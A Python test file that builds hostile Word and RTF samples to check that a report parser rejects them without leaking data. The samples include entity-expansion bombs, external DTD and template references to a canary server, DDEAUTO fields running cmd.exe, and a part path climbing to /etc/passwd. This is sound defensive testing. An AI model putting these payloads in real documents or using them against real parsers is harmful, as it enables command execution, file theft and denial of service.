"""Word files: entities, links, macros, figures that are not shown, files that are locked or broken."""

from __future__ import annotations

import io
import re
import zipfile

from tests.hostile.case import CANARY_FILE, CANARY_SERVER, SECRET, UNREADABLE, WHOLE, Hostile, Row
from tests.unit.documents.sample_report import as_docx
from tests.unit.documents.test_doc import word_container
from tests.unit.documents.test_docx import BILLION_LAUGHS, OUTSIDE, document_part, repacked

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
# The first value of the row of new requests, which prints 20, as the sample report writes it.
_FIRST_VALUE = re.compile(r"(一、本年新收政府信息公开申请数量</w:t>.*?<w:tc>.*?<w:r>)(<w:t>20</w:t></w:r>)", re.DOTALL)
_FIRST_CELL = "app.new_received[natural_person]"
DECLARES = Row(UNREADABLE, "declares a document type or entities")


def _body(change: tuple[str, str] | None = None, *, before: str = "") -> bytes:
    """The sample report with a pattern of its document replaced, and more before its first paragraph."""

    def changed(name: str, data: bytes) -> bytes:
        if name != "word/document.xml":
            return data
        xml = data.decode()
        if change:
            pattern, replacement = change
            xml, count = re.subn(pattern, replacement, xml, count=1, flags=re.DOTALL)
            assert count == 1
        return xml.replace("<w:body>", f"<w:body>{before}", 1).encode()

    return repacked(as_docx(), changed)


def _added(parts: dict[str, bytes], relations: str = "", before: str = "") -> bytes:
    """The sample report with more parts, and more relations of its document."""

    def changed(name: str, data: bytes) -> bytes:
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", relations.encode() + b"</Relationships>")
        if name == "word/document.xml":
            return data.replace(b"<w:body>", b"<w:body>" + before.encode(), 1)
        return data

    stream = io.BytesIO(repacked(as_docx(), changed))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def _relation(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rX{kind}" Type="{_RELATIONS}/{kind}" Target="{target}"{mode}/>'


def in_first_cell(before: str = "", after: str = "") -> bytes:
    """The sample report with runs added to its first value."""
    return _body(
        (_FIRST_VALUE.pattern, rf"\1\2{after}" if not before else rf"\1<w:t></w:t></w:r>{before}<w:r>\2{after}")
    )


def _instead_of_first(properties: str) -> bytes:
    """The sample report with its first value formatted."""
    return _body((_FIRST_VALUE.pattern, rf"\1<w:rPr>{properties}</w:rPr>\2"))


def _run(text: str, properties: str) -> str:
    return f"<w:r><w:rPr>{properties}</w:rPr><w:t>{text}</w:t></w:r>"


def _field(code: str, shown: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _quadratic() -> bytes:
    entity = b"a" * 50_000
    return b'<!DOCTYPE w [<!ENTITY a "%s">]><w:document xmlns:w="%s">%s</w:document>' % (
        entity,
        W.encode(),
        b"&a;" * 50_000,
    )


def _from_server() -> bytes:
    return b'<!DOCTYPE w SYSTEM "%s/evil.dtd"><w:document xmlns:w="%s"/>' % (CANARY_SERVER.encode(), W.encode())


def _numbered(characters: int, paragraphs: int) -> bytes:
    """A list whose numbers are a text of so many characters, before so many paragraphs."""
    numbering = (
        f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/>'
        f'<w:numFmt w:val="decimal"/><w:lvlText w:val="{"一" * characters}"/></w:lvl></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    item = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>'
    )
    return repacked(
        _body(before=item * paragraphs),
        lambda name, data: numbering.encode() if name == "word/numbering.xml" else data,
    )


def _two_bodies() -> bytes:
    """Two parts of one name, of which one program shows the first and another the last."""
    other = document_part(b"<w:document xmlns:w='%s'><w:body/></w:document>" % W.encode())
    with zipfile.ZipFile(io.BytesIO(other)) as archive:
        second = archive.read("word/document.xml")
    stream = io.BytesIO(as_docx())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("word/documenX.xml", second)
    return stream.getvalue().replace(b"word/documenX.xml", b"word/document.xml")


def _main_part(target: str) -> bytes:
    return repacked(
        as_docx(),
        lambda name, data: data.replace(b"word/document.xml", target.encode()) if name == "_rels/.rels" else data,
    )


def _nested(depth: int) -> bytes:
    opened, closed = "<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>"
    return _body(before=opened * depth + "<w:p><w:r><w:t>1</w:t></w:r></w:p>" + closed * depth)


def _container(streams: dict[str, bytes]) -> bytes:
    """The container of `word_container` with its stream called otherwise."""
    (name,) = streams
    wide, own = "WordDocument".encode("utf-16-le"), name.encode("utf-16-le")
    data = word_container()
    place = data.index(wide)
    data = data[:place] + own.ljust(64, b"\0") + data[place + 64 :]
    return data[: place + 64] + (len(own) + 2).to_bytes(2, "little") + data[place + 66 :]


def _looping_container() -> bytes:
    """A container whose directory is a chain of sectors that leads back to itself."""
    data = bytearray(word_container())
    data[512 + 4 : 512 + 8] = (1).to_bytes(4, "little")
    return bytes(data)


def _looping_tree() -> bytes:
    """A container whose root is its own child."""
    data = bytearray(word_container())
    data[1024 + 76 : 1024 + 80] = (0).to_bytes(4, "little")
    return bytes(data)


RICH_TEXT = (
    r"{\rtf1\ansi\uc0 "
    rf'{{\field{{\*\fldinst INCLUDETEXT "file://{CANARY_FILE}"}}{{\fldrslt 1}}}}\par '
    rf'{{\field{{\*\fldinst INCLUDEPICTURE "{CANARY_SERVER}/a.png"}}{{\fldrslt 1}}}}\par '
    rf'{{\field{{\*\fldinst DDEAUTO cmd "/c touch {CANARY_FILE}.dde"}}{{\fldrslt 1}}}}\par '
    rf"{{\*\template {CANARY_SERVER}/t.dot}}"
    r"\u20851 \u20110 \u20250 \u35758 \u30340 \u36890 \u30693 \par}"
)

OFFICE = (
    Hostile("laughs.docx", lambda: document_part(BILLION_LAUGHS), DECLARES),
    Hostile("laughs-wide.docx", lambda: document_part(BILLION_LAUGHS.decode().encode("utf-16")), DECLARES),
    Hostile("quadratic.docx", lambda: document_part(_quadratic()), DECLARES),
    Hostile(
        "entity-of-a-file.docx",
        lambda: document_part(OUTSIDE.replace(b"/etc/hostname", CANARY_FILE.encode())),
        DECLARES,
        absent=(SECRET,),
    ),
    Hostile("declaration-of-a-server.docx", lambda: document_part(_from_server()), DECLARES),
    Hostile(
        "template-of-a-server.docx",
        lambda: _added({}, _relation("attachedTemplate", f"{CANARY_SERVER}/evil.dotm")),
        values=WHOLE,
    ),
    Hostile(
        "linked-picture.docx",
        lambda: _added({}, _relation("image", f"file://{CANARY_FILE}") + _relation("image", f"{CANARY_SERVER}/a.png")),
        values=WHOLE,
        absent=(SECRET,),
    ),
    Hostile(
        "embedded-program.docx",
        lambda: _added(
            {"word/embeddings/oleObject1.bin": b"MZ" + bytes(5000), "word/vbaProject.bin": b"\xd0\xcf" + bytes(5000)},
            _relation("oleObject", "embeddings/oleObject1.bin", external=False)
            + _relation("vbaProject", "vbaProject.bin", external=False),
        ),
        values=WHOLE,
    ),
    Hostile(
        "fields.docx",
        lambda: _body(
            before=_field(f'INCLUDETEXT "{CANARY_FILE}"', "见附件")
            + _field('DDEAUTO c:\\windows\\cmd.exe "/k calc"', "1")
        ),
        values=WHOLE,
        absent=(SECRET, "DDEAUTO", "INCLUDETEXT"),
    ),
    Hostile("two-bodies.docx", _two_bodies, Row(UNREADABLE, "two files called 'word/document.xml'")),
    Hostile(
        "climbing-part.docx",
        lambda: _main_part("../../../etc/passwd"),
        Row(UNREADABLE, "an office file other than"),
        absent=("root:",),
    ),
    Hostile(
        "part-of-a-file.docx",
        lambda: _main_part(f"file://{CANARY_FILE}"),
        Row(UNREADABLE, "an office file other than"),
        absent=(SECRET,),
    ),
    Hostile("nested-tables.docx", lambda: _nested(2_000), Row(UNREADABLE, "broken")),
    Hostile("nested-a-little.docx", lambda: _nested(40), values=WHOLE),
    Hostile("empty-paragraphs.docx", lambda: _body(before="<w:p/>" * 400_000), values=WHOLE, megabytes=600),
    Hostile("long-numbers.docx", lambda: _numbered(30_000, 10_000), values=WHOLE),
    Hostile("cut.docx", lambda: as_docx()[:9_000], Row(UNREADABLE, "broken")),
    Hostile("hidden-run.docx", lambda: in_first_cell(after=_run("9", "<w:vanish/>")), values=WHOLE),
    Hostile("hidden-before.docx", lambda: in_first_cell(before=_run("9", "<w:vanish/>")), values=WHOLE),
    Hostile("white-run.docx", lambda: in_first_cell(after=_run("9", '<w:color w:val="FFFFFF"/>')), values=WHOLE),
    Hostile("tiny-run.docx", lambda: in_first_cell(after=_run("9", '<w:sz w:val="1"/>')), values=WHOLE),
    Hostile(
        "white-figure.docx",
        lambda: _instead_of_first('<w:color w:val="FFFFFF"/>'),
        values={**WHOLE, _FIRST_CELL: "blank"},
    ),
    Hostile(
        "white-on-dark.docx",
        lambda: _instead_of_first('<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="1F3864"/>'),
        values=WHOLE,
    ),
    Hostile("locked.docx", lambda: _container({"EncryptedPackage": b""}), Row(UNREADABLE, "locked with a password")),
    Hostile("looping.doc", _looping_container, Row(UNREADABLE, "")),
    Hostile("looping-tree.doc", _looping_tree, Row(UNREADABLE, "other than DOC and XLS")),
    Hostile("slides.pptx", lambda: _container({"PowerPoint Document": b""}), Row(UNREADABLE, "other than DOC and XLS")),
    Hostile("program.doc", lambda: b"MZ\x90\0" + bytes(range(256)) * 40, Row(UNREADABLE, "binary")),
)
